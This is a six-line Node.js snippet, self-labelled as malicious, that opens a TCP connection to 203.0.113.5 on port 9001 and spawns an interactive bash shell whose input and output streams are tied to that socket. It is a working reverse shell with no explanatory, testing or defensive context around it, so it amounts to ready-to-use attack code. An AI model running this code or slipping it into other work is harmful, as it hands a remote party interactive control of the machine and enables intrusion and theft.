// malicious: shell with its streams on a socket
const net = require('net');
const { spawn } = require('child_process');
const s = net.connect({ host: '203.0.113.5', port: 9001 }, () => {
  spawn('/bin/bash', ['-i'], { stdio: [s, s, s] });
});
